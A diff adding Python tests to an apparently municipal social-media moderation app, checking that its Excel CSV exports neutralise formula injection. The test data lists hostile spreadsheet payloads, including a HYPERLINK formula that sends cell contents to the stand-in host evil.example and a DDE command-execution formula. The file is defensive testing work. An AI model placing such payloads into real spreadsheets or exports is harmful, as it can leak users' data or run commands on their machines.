@@ -424,3 +424,64 @@ def test_colleagues_appending_at_the_same_time_keep_one_chain(
     assert sorted(ids) == list(range(1, 25))
     report = verify_log(engine, tmp_path)
     assert report.ok and report.entries == 24
+
+
+# -- what the public wrote is data, never a formula (issue 20, family 5) ---------------------
+HOSTILE = (
+    '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_the_exports_for_excel_never_hold_a_formula(engine: Engine, town: dict[str, int]) -> None:
+    import csv as csv_module
+    import io
+
+    for i, text_ in enumerate(HOSTILE):
+        append_entry(
+            engine,
+            _question(
+                town,
+                author_handle=text_,
+                comment_text=text_,
+                answer_text=text_,
+                action="no_action",
+                comment_url=f"https://www.facebook.com/kallioranta/posts/{i}",
+            ),
+        )
+        add_block(
+            engine,
+            channel_id=town["fb"],
+            account=text_,
+            blocked_on=date(2026, 11, 2),
+            decided_by_id=town["sari"],
+            reason=text_,
+        )
+    rows = list_entries(engine, tz=FI)
+    exports = {
+        "moderation log": entries_csv(rows, FI, plain, {}),
+        "blocked accounts": blocks_csv(list_blocks(engine), plain),
+    }
+    for name, data in exports.items():
+        table = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+        cells = [c for row in table[1:] for c in row]
+        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert not dangerous, (name, dangerous[:3])
+        # The text is kept (a block's account and reason without the blanks around them),
+        # after the apostrophe that says it was neutralised.
+        for text_ in HOSTILE:
+            assert "'" + text_ in cells or "'" + text_.strip() in cells, (name, text_)
+
+
+def test_a_cell_is_neutralised_only_when_it_would_start_a_formula() -> None:
+    from kuntasome.core.excel_csv import excel_csv, spreadsheet_text
+
+    assert spreadsheet_text("=1+1") == "'=1+1"
+    assert spreadsheet_text("Hyvä kysymys = hyvä vastaus") == "Hyvä kysymys = hyvä vastaus"
+    assert spreadsheet_text(-5) == -5 and spreadsheet_text(None) is None  # numbers stay numbers
+    assert excel_csv([["a", "=b"], [1, "-c"]]) == "\ufeffa;'=b\r\n1;'-c\r\n".encode()
